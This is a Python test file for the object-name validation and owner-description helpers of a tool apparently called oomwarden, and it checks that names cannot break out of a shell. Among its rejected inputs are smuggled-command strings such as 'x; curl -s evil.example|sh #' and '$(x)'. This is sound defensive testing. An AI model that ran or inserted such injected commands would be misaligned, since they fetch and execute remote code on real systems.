import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st
from oomwarden.api.oomkill import Owner
from oomwarden.core.objects.object_names import describe_owner, has_template, is_object_name

NAMES = st.text() | st.from_regex(r"[a-z0-9.;$`|&\n -]{1,300}", fullmatch=True)


@given(NAMES)
def test_an_object_name_is_one_word_in_a_shell(name: str) -> None:
    if is_object_name(name):
        assert shlex.split(name, comments=True) == [name]
        assert shlex.quote(name) == name
        assert not name.startswith("-")


@pytest.mark.parametrize(
    "name",
    [
        "",
        "-x",
        "x-",
        "x..y",
        "x\n",
        "X",
        "a" * 254,
        "x; curl -s evil.example|sh #",
        "$(x)",
        "é",
        None,
    ],
)
def test_other_text_is_not_an_object_name(name: str | None) -> None:
    assert not is_object_name(name)


@pytest.mark.parametrize("name", ["x", "web-1", "a.b-c.d", "a" * 63, ".".join(["a" * 63] * 3)])
def test_valid_names_are_object_names(name: str) -> None:
    assert is_object_name(name)


@given(NAMES, NAMES)
def test_the_description_of_an_owner_is_one_short_line(kind: str, name: str) -> None:
    reported = describe_owner(Owner(kind=kind, name=name))
    assert reported.isprintable()
    assert not set(reported) & set("$`;|&<>\\'*")
    assert len(reported) <= 63 * 2 + 253 + 32


def test_only_workloads_with_a_valid_name_have_a_template() -> None:
    owners = (("Deployment", "api"), ("Deployment", "a b"), ("Job", "api"), ("deployment", "api"))
    assert [has_template(Owner(kind=kind, name=name)) for kind, name in owners] == [
        True, False, False, False,
    ]  # fmt: skip
    assert not has_template(None)


def test_an_owner_with_a_valid_name_is_described_by_it_and_another_is_quoted() -> None:
    assert describe_owner(Owner(kind="CronTab", name="api")) == "CronTab api"
    problems = describe_owner(Owner(kind="Deployment", name='x"; $(sh)\n'))
    assert problems == 'the owner that calls itself "Deployment x?? ??sh??n"'
